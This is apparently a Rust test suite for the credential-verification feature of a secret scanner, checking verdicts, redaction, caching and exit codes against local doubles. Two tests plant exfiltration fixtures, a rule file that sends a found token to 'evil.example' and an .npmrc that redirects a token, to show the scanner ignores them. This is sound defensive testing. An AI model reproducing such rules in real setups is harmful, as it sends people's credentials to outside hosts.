//! `--verify` and `deadkey verify` against doubles: verdicts in every report, exit codes, and no secret anywhere.

use crate::found::git;
use crate::program::{Run, command, deadkey, deadkey_with, deadkey_with_input};
use serde_json::Value;
use std::fs;
use std::path::Path;
use std::time::{Duration, Instant};
use testkit::double::{Double, Reply};
use testkit::{Repository, Rng, secrets};

fn github(seed: u64) -> String {
    String::from_utf8(secrets::github_classic(&mut Rng::new(seed))).expect("ASCII")
}

fn slack(seed: u64) -> String {
    let mut rng = Rng::new(seed);
    let mut digits = |n| String::from_utf8(rng.text(b"123456789", n)).expect("ASCII");
    let (team, bot) = (digits(12), digits(12));
    let tail = String::from_utf8(rng.text(secrets::BASE62, 24)).expect("ASCII");
    format!("xo{}-{team}-{bot}-{tail}", "xb")
}

/// GitHub's API, for which this token is live.
fn provider(live: &str) -> Double {
    let live = live.to_owned();
    Double::start(move |received| match received.header("authorization") {
        Some(token) if token == format!("Bearer {live}") => {
            // A provider that echoes what it was given.
            let body = format!(r#"{{"login":"octo <{live}>","id":1}}"#);
            Reply::json(200, body).with("X-OAuth-Scopes: repo, gist")
        }
        Some(_) => Reply::json(401, r#"{"message":"Bad credentials","status":"401"}"#),
        None => Reply::json(404, r#"{"message":"Not Found"}"#),
    })
}

fn at(double: &Double) -> String {
    format!("github={}", double.url())
}

/// A folder with a live and a dead token of GitHub, and one of Slack.
fn folder(live: &str, dead: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().expect("a folder");
    fs::write(folder.path().join("a.env"), format!("GITHUB_TOKEN={live}\n")).expect("written");
    fs::write(folder.path().join("b.env"), format!("GH_TOKEN={dead}\n# again\nOTHER={live}\n")).expect("written");
    folder
}

fn states(run: &Run) -> Vec<String> {
    let mut states: Vec<String> =
        run.json_lines().iter().map(|line| line["verdict"]["state"].as_str().unwrap_or_default().to_owned()).collect();
    states.sort();
    states
}

#[test]
fn verdicts_stand_in_every_report_and_secrets_in_none() {
    let (live, dead) = (github(1), github(2));
    let (double, folder) = (provider(&live), folder(&live, &dead));
    let cache = folder.path().join("cache");
    for format in [
        "text",
        "jsonl",
        "json",
        "sarif",
        "gitlab",
        "csv",
        "markdown",
        "junit",
        "github",
        "azure",
        "html",
        "code-quality",
    ] {
        let known = deadkey(Path::new("."), &["scan", "--help"]);
        if !known.stdout.contains(format) {
            continue;
        }
        let endpoint = at(&double);
        let arguments = ["scan", ".", "-v", "--verify", "--verify-endpoint", &endpoint, "--format", format];
        let run = deadkey(folder.path(), &arguments);
        let all = format!("{}{}", run.stdout, run.stderr);
        for secret in [&live, &dead] {
            assert!(!all.contains(secret.as_str()), "{format}: {all}");
            assert!(!all.contains(&secret[8..]), "{format}: {all}");
        }
        assert!(all.to_lowercase().contains("live") && run.code == 1, "{format}: {} {all}", run.code);
        assert!(run.stderr.contains("2 credentials checked at their providers: 1 live, 1 dead, 0 unknown"), "{all}");
    }
    let path = cache.to_str().expect("UTF-8");
    let endpoint = at(&double);
    let arguments =
        ["scan", "a.env", "b.env", "--verify", "--verify-endpoint", &endpoint, "--verify-cache", path, "-f", "jsonl"];
    let run = deadkey(folder.path(), &arguments);
    let line = run.json_lines().into_iter().find(|line| line["verdict"]["state"] == "live").expect("a live one");
    assert_eq!(line["verdict"]["identity"], "octo <…>");
    assert_eq!(line["verdict"]["scopes"], serde_json::json!(["gist", "repo"]));
    assert_eq!(line["confidence"], "confirmed");
    let dead_line = run.json_lines().into_iter().find(|line| line["verdict"]["state"] == "dead").expect("a dead one");
    assert!(dead_line["verdict"]["why"].as_str().is_some_and(|why| why.contains("Bad credentials")), "{dead_line}");
    let text = fs::read_to_string(&cache).expect("a cache");
    assert!(!text.contains(&live[8..]) && !text.contains(&dead[8..]) && text.lines().count() == 2, "{text}");
    // The second run asks nobody.
    let before = double.received().len();
    assert_eq!(states(&deadkey(folder.path(), &arguments)), ["dead", "live"]);
    assert_eq!(double.received().len(), before);
}

#[test]
fn a_credential_in_many_places_is_sent_once_and_nothing_else_is() {
    let (live, dead) = (github(3), github(4));
    let (double, folder) = (provider(&live), folder(&live, &dead));
    deadkey(folder.path(), &["scan", ".", "--verify", "--verify-endpoint", &at(&double)]);
    let received = double.received();
    let count = |secret: &str| received.iter().filter(|one| one.text().contains(secret)).count();
    assert_eq!((count(&live), count(&dead)), (1, 1), "{received:?}");
    assert!(!received[0].text().contains(&live) && !received[0].text().contains(&dead), "a made-up one comes first");
    assert_eq!(received.len(), 3);
}

#[test]
fn only_what_is_live_fails_where_that_is_asked() {
    let (live, dead) = (github(5), github(6));
    let (double, folder) = (provider(&live), folder(&live, &dead));
    let endpoint = at(&double);
    let arguments = ["--verify", "--verify-endpoint", &endpoint, "--fail-on", "live", "-f", "jsonl"];
    let scan = |file: &str, arguments: &[&str]| deadkey(folder.path(), &[&["scan", file], arguments].concat());
    assert_eq!(scan("a.env", &arguments).code, 1);
    fs::write(folder.path().join("c.env"), format!("GITHUB_TOKEN={dead}\n")).expect("written");
    assert_eq!(scan("c.env", &arguments).code, 0);
    let gone = Double::start(|_| Reply::Close).url();
    let nowhere = format!("github={gone}");
    let run = scan("c.env", &["--verify", "--verify-endpoint", &nowhere, "--fail-on", "live", "-f", "jsonl"]);
    assert_eq!((run.code, states(&run)), (3, vec!["unknown".to_owned()]), "{}", run.stderr);
    // A baseline hides no live key.
    deadkey(folder.path(), &["baseline", "create", "a.env", "--no-gitattributes"]);
    let known = ["--baseline", ".deadkey-baseline", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl"];
    assert_eq!(scan("a.env", &known).code, 1);
    assert_eq!(scan("a.env", &["--baseline", ".deadkey-baseline"]).code, 0);
}

#[test]
fn a_dry_run_says_what_would_be_sent_and_sends_nothing() {
    let (live, dead) = (github(7), github(8));
    let (double, folder) = (provider(&live), folder(&live, &dead));
    let run = deadkey(folder.path(), &["scan", ".", "--verify-dry-run", "--verify-endpoint", &at(&double)]);
    assert!(run.stderr.contains(&format!("GET {}/user", double.url())), "{}", run.stderr);
    assert!(run.stderr.contains("Authorization: Bearer <secret>"), "{}", run.stderr);
    assert!(run.stderr.contains("nothing was sent"), "{}", run.stderr);
    assert!(!run.stderr.contains(&live) && !run.stderr.contains(&dead), "{}", run.stderr);
    assert_eq!(double.connections(), 0);
    // Without an endpoint the provider's own host is named.
    let run = deadkey(folder.path(), &["scan", ".", "--verify-dry-run"]);
    assert!(run.stderr.contains("GET https://api.github.com/user"), "{}", run.stderr);
}

#[test]
fn one_secret_is_checked_from_standard_input() {
    let (live, dead) = (github(9), github(10));
    let double = provider(&live);
    let endpoint = at(&double);
    let run = deadkey_with_input(&["verify", "--verify-endpoint", &endpoint], live.as_bytes());
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stdout.contains("live: octo <…>; scopes gist, repo"), "{}", run.stdout);
    assert!(!run.stdout.contains(&live[8..]) && !run.stderr.contains(&live[8..]));
    let run = deadkey_with_input(&["verify", "-f", "jsonl", "--verify-endpoint", &endpoint], dead.as_bytes());
    assert_eq!((run.code, states(&run)), (0, vec!["dead".to_owned()]), "{}", run.stderr);
    // A bare value of a rule that needs a name beside it.
    let bare = String::from_utf8(Rng::new(11).text(secrets::HEX, 40)).expect("ASCII");
    let arguments = ["verify", "--rule", "github-token-legacy", "-f", "jsonl", "--verify-endpoint", &endpoint];
    let run = deadkey_with_input(&arguments, format!("{bare}\n").as_bytes());
    assert_eq!((run.code, states(&run)), (0, vec!["dead".to_owned()]), "{}", run.stderr);
    let run = deadkey_with_input(&["verify"], b"no credential at all");
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("name its rule with --rule"), "{}", run.stderr);
    let run = deadkey_with_input(&["verify"], b"");
    assert!(run.code == 2 && run.stderr.contains("standard input is empty"), "{}", run.stderr);
}

/// A Docker user on another line may be somebody else's, and then a refusal is meant for them.
#[test]
fn the_user_on_another_line_may_be_anybodys() {
    let token = format!("dckr_{}_{}", "pat", String::from_utf8(Rng::new(12).text(secrets::BASE62, 27)).expect("ASCII"));
    let double = Double::start(|received| match received.target.as_str() {
        "/v2/auth/token" => Reply::json(401, r#"{"message":"incorrect username or password"}"#),
        _ => Reply::json(404, "{}"),
    });
    let endpoint = format!("docker={}", double.url());
    let checked = |text: String| {
        let folder = tempfile::tempdir().expect("a folder");
        fs::write(folder.path().join("deploy.sh"), text).expect("written");
        let arguments = ["scan", ".", "--verify", "-f", "jsonl", "--verify-endpoint", &endpoint];
        let run = deadkey(folder.path(), &arguments);
        let lines = run.json_lines();
        let about = lines.iter().find(|line| line["rule"] == "dockerhub-pat");
        about.unwrap_or_else(|| panic!("{} {}", run.stdout, run.stderr))["verdict"].clone()
    };
    let apart = checked(format!("export DOCKER_USER=acme\nexport DOCKER_TOKEN={token}\n"));
    assert_eq!(apart["state"], "unknown", "{apart}");
    assert!(apart.to_string().contains("may be another's"), "{apart}");
    let beside = checked(format!("docker login -u acme -p {token}\n"));
    assert_eq!(beside["state"], "dead", "{beside}");
}

#[test]
fn findings_of_a_report_are_read_again_where_they_stand() {
    let (live, dead) = (github(12), github(13));
    let (double, folder) = (provider(&live), folder(&live, &dead));
    let endpoint = at(&double);
    for (format, file) in [("jsonl", "out.jsonl"), ("sarif", "out.sarif"), ("json", "out.json")] {
        let report = format!("{format}={file}");
        deadkey(folder.path(), &["scan", "a.env", "b.env", "--report", &report]);
        let text = fs::read_to_string(folder.path().join(file)).expect("a report");
        assert!(!text.contains(&live));
        let run = deadkey(folder.path(), &["verify", "--from", file, "-f", "jsonl", "--verify-endpoint", &endpoint]);
        assert_eq!(
            (run.code, states(&run)),
            (1, vec!["dead".to_owned(), "live".to_owned()]),
            "{format}: {}",
            run.stderr
        );
    }
    // What has gone is said.
    fs::write(folder.path().join("b.env"), "nothing\n").expect("written");
    let run = deadkey(folder.path(), &["verify", "--from", "out.jsonl", "-f", "jsonl", "--verify-endpoint", &endpoint]);
    assert_eq!(states(&run), ["live"]);
    assert!(run.stderr.contains("does not stand there any more"), "{}", run.stderr);
    let with_key = [("DEADKEY_KEY", "an organisation's own key")];
    let run = deadkey_with(folder.path(), &["verify", "--from", "out.jsonl"], &with_key, b"");
    assert!(run.code == 2 && run.stderr.contains("made with another key"), "{}", run.stderr);
}

#[test]
fn histories_and_logs_are_checked_too() {
    let (live, dead) = (github(14), github(15));
    let double = provider(&live);
    let endpoint = at(&double);
    let mut repository = Repository::new();
    repository.commit_file("a.env", format!("GITHUB_TOKEN={live}\n"));
    repository.commit_file("a.env", format!("GITHUB_TOKEN={dead}\n"));
    let run = deadkey(repository.path(), &["git", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl"]);
    assert_eq!(states(&run), ["dead", "live"], "{}", run.stderr);
    let report = tempfile::tempdir().expect("a folder");
    let file = report.path().join("out.jsonl");
    fs::write(&file, &run.stdout).expect("written");
    git(repository.path(), &["status"]);
    let from = file.to_str().expect("UTF-8");
    let run = deadkey(repository.path(), &["verify", "--from", from, "-f", "jsonl", "--verify-endpoint", &endpoint]);
    assert_eq!(states(&run), ["dead", "live"], "{}", run.stderr);
    let log = format!("2026-11-22T10:00:00.0000000Z token {live}\n2026-11-22T10:00:01.0000000Z other {dead}\n");
    let arguments = ["log", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl", "-"];
    let run = deadkey_with_input(&arguments, log.as_bytes());
    assert_eq!(states(&run), ["dead", "live"], "{}", run.stderr);
}

#[test]
fn slips_are_told() {
    let folder = folder(&github(16), &github(17));
    let said = |arguments: &[&str]| {
        let run = deadkey(folder.path(), &[&["scan", "."], arguments].concat());
        assert_eq!(run.code, 2, "{}", run.stderr);
        run.stderr
    };
    assert!(said(&["--verify", "--verify-endpoint", "gitlub=https://a"]).contains("did you mean"));
    assert!(said(&["--verify-endpoint", "github=https://a.example"]).contains("is about --verify"));
    assert!(said(&["--verify", "--verify-endpoint", "github"]).contains("PROVIDER=URL"));
    let run = deadkey_with(folder.path(), &["scan", ".", "--verify"], &[("HTTPS_PROXY", "socks5://a:1")], b"");
    assert!(run.code == 2 && run.stderr.contains("HTTPS_PROXY"), "{}", run.stderr);
}

#[test]
fn a_pull_request_cannot_send_a_token_elsewhere() {
    // A registry of the scanned tree is not asked.
    let double = Double::start(|_| Reply::json(200, r#"{"username":"evil"}"#));
    let folder = tempfile::tempdir().expect("a folder");
    let token = format!("npm_{}", &github(18)[4..]);
    let npmrc = format!("registry={}/\n//{}/:_authToken={token}\n", double.url(), double.address());
    fs::write(folder.path().join(".npmrc"), npmrc).expect("written");
    let arguments = ["scan", ".", "--verify", "--rule", "npm-access-token", "--confidence", "low", "-f", "jsonl"];
    // Nor does the tester's own configuration count.
    let nobodys = tempfile::tempdir().expect("a folder");
    let home = [("HOME", nobodys.path().to_str().expect("UTF-8"))];
    let run = deadkey_with(folder.path(), &arguments, &home, b"");
    assert_eq!(double.connections(), 0);
    let lines = run.json_lines();
    assert!(!lines.is_empty(), "{}", run.stderr);
    for line in &lines {
        let why = line["verdict"]["why"].as_str().unwrap_or_default();
        assert!(why.contains("--verify-endpoint npm=") && line["verdict"]["state"] == "unknown", "{line}");
    }
}

#[test]
fn the_host_beside_a_token_tells_whose_instance_it_is() {
    let tail = String::from_utf8(Rng::new(23).text(secrets::BASE62, 20)).expect("ASCII");
    let (token, gitlab) = (github(24), format!("gl{}-{tail}", "pat"));
    let double = Double::start(|received| match received.target.starts_with("/user") {
        true => Reply::json(401, r#"{"message":"Bad credentials"}"#),
        false => Reply::json(401, r#"{"message":"401 Unauthorized"}"#),
    });
    let folder = tempfile::tempdir().expect("a folder");
    let lines = format!(
        "git clone https://{token}@github.com/acme/app\ngit clone https://oauth2:{gitlab}@code.corp.example/acme/app\n"
    );
    fs::write(folder.path().join("a.sh"), lines).expect("written");
    let own = format!("gitlab={}", double.url());
    let arguments =
        ["scan", ".", "--verify", "--verify-endpoint", &own, "--verify-endpoint", &at(&double), "-f", "jsonl"];
    let run = deadkey(folder.path(), &arguments);
    let verdict = |rule: &str| {
        let lines = run.json_lines();
        let line = lines.iter().find(|line| line["rule"].as_str().is_some_and(|id| id.starts_with(rule)));
        line.unwrap_or_else(|| panic!("no {rule}: {}", run.stdout))["verdict"].clone()
    };
    assert_eq!(verdict("github")["state"], "dead", "the endpoint stands in for the provider: {}", run.stdout);
    let wrong = verdict("gitlab");
    assert!(
        wrong["state"] == "unknown" && wrong["why"].as_str().is_some_and(|w| w.contains("code.corp.example")),
        "{wrong}"
    );
    let plan = deadkey(folder.path(), &["scan", ".", "--verify-dry-run"]);
    assert!(plan.stderr.contains("https://gitlab.com/api/v4/personal_access_tokens/self"), "{}", plan.stderr);
}

#[test]
fn a_rule_of_the_scanned_tree_sends_nothing_anywhere() {
    let double = Double::start(|_| Reply::json(200, r#"{"ok":true}"#));
    let folder = tempfile::tempdir().expect("a folder");
    let token = github(22);
    let rules = "provider = \"Evil\"\n[[rule]]\nid = \"github-pat-classic\"\nname = \"x\"\nseverity = \"high\"\n\
                 shape = 'ghp_[0-9A-Za-z]{36}'\n[rule.verify]\nmethod = \"GET\"\nurl = \"https://evil.example/{secret}\"\nlive = [200]\n";
    fs::write(folder.path().join("evil.toml"), rules).expect("written");
    fs::write(folder.path().join(".deadkey.toml"), "[rules]\nfiles = [\"evil.toml\"]\n").expect("written");
    fs::write(folder.path().join("a.env"), format!("GITHUB_TOKEN={token}\n")).expect("written");
    // Were its check to count, the double would be asked in the place of the host that it names.
    let endpoint = format!("github-pat-classic={}", double.url());
    let run = deadkey(folder.path(), &["scan", "a.env", "--verify", "--verify-endpoint", &endpoint, "-f", "jsonl"]);
    assert_eq!(double.connections(), 0, "{}", run.stderr);
    let why = &run.json_lines()[0]["verdict"]["why"];
    assert!(why.as_str().is_some_and(|why| why.contains("no check is known")), "{why}");
    // Named on the command line, it counts.
    let arguments = ["scan", "a.env", "--no-config", "--rules", "evil.toml", "--verify-dry-run"];
    let run = deadkey(folder.path(), &arguments);
    assert!(run.stderr.contains("GET https://evil.example/<secret>"), "{}", run.stderr);
}

#[test]
fn the_users_own_registry_is_asked() {
    let token = format!("npm_{}", &github(19)[4..]);
    let live = token.clone();
    let double = Double::start(move |received| match received.text().contains(&live) {
        true => Reply::json(200, r#"{"username":"octo"}"#),
        false => Reply::json(401, "{}"),
    });
    let (home, folder) = (tempfile::tempdir().expect("a folder"), tempfile::tempdir().expect("a folder"));
    fs::write(home.path().join(".npmrc"), format!("registry={}/npm/\n", double.url())).expect("written");
    fs::write(folder.path().join("a.env"), format!("NPM_TOKEN={token}\n")).expect("written");
    let arguments = ["scan", ".", "--verify", "--rule", "npm-access-token", "--confidence", "low", "-f", "jsonl"];
    let variables = [("HOME", home.path().to_str().expect("UTF-8"))];
    let run = deadkey_with(folder.path(), &arguments, &variables, b"");
    assert_eq!(states(&run), ["live"], "{} {}", run.stdout, run.stderr);
    assert!(double.received().iter().all(|received| received.target.starts_with("/npm/-/whoami")));
}

#[test]
fn an_interrupt_keeps_the_verdicts_so_far() {
    let double = Double::start(|received| match received.header("authorization") {
        Some(_) => Reply::json(401, r#"{"message":"Bad credentials"}"#).after(Duration::from_millis(50)),
        None => Reply::json(404, "{}"),
    });
    let folder = tempfile::tempdir().expect("a folder");
    let lines: String = (0..200).map(|n| format!("GITHUB_TOKEN={}\n", github(100 + n))).collect();
    fs::write(folder.path().join("a.env"), lines).expect("written");
    let mut command = command();
    command.args([
        "scan",
        "a.env",
        "--verify",
        "--verify-rate",
        "20",
        "-f",
        "jsonl",
        "--verify-endpoint",
        &at(&double),
    ]);
    command.current_dir(folder.path()).stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let child = command.spawn().expect("it starts");
    let started = Instant::now();
    while double.received().len() < 10 && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(10));
    }
    let pid = child.id().to_string();
    let sent = std::process::Command::new("kill").args(["-INT", &pid]).status().expect("kill runs");
    assert!(sent.success());
    let output = child.wait_with_output().expect("it ends");
    assert_eq!(output.status.code(), Some(130));
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let count = |state: &str| lines.iter().filter(|line| line["verdict"]["state"] == state).count();
    assert_eq!(lines.len(), 200);
    assert!(count("dead") >= 5 && count("not-checked") > 100, "{} {}", count("dead"), count("not-checked"));
}

#[test]
fn two_providers_are_told_apart() {
    let (token, bot) = (github(20), slack(21));
    let double = Double::start(|received| match received.target.as_str() {
        "/api/auth.test" => Reply::json(200, r#"{"ok":false,"error":"invalid_auth"}"#),
        _ => Reply::json(401, r#"{"message":"Bad credentials"}"#),
    });
    let folder = tempfile::tempdir().expect("a folder");
    fs::write(folder.path().join("a.env"), format!("GITHUB_TOKEN={token}\nSLACK_BOT_TOKEN={bot}\n")).expect("written");
    let slack = format!("slack={}", double.url());
    let arguments =
        ["scan", ".", "--verify", "--verify-endpoint", &at(&double), "--verify-endpoint", &slack, "-f", "jsonl"];
    let run = deadkey(folder.path(), &arguments);
    assert_eq!(states(&run), ["dead", "dead"], "{} {}", run.stdout, run.stderr);
}

#[test]
fn organisations_behind_a_single_sign_on_are_told() {
    let live = github(21);
    let known = live.clone();
    let double = Double::start(move |received| {
        let is_live = received.header("authorization").is_some_and(|token| token.contains(&known));
        match received.target.split('?').next().unwrap_or_default() {
            _ if !is_live => Reply::json(401, r#"{"message":"Bad credentials"}"#),
            "/user" => Reply::json(200, r#"{"login":"octo"}"#),
            "/user/orgs" => Reply::json(200, r#"[{"login":"acme"}]"#)
                .with("X-GitHub-SSO: partial-results; organizations=21955855,20582480"),
            _ => Reply::json(200, "[]"),
        }
    });
    let endpoint = at(&double);
    let arguments = ["verify", "--blast-radius", "--verify-endpoint", &endpoint, "-f", "jsonl"];
    let run = deadkey_with_input(&arguments, live.as_bytes());
    let reach = &run.json_lines()[0]["verdict"]["reach"];
    assert_eq!(reach[0]["names"], serde_json::json!(["acme"]), "{}", run.stdout);
    assert_eq!(reach[1]["kind"], "organisations that want single sign-on");
    assert_eq!(reach[1]["count"], 2);
}
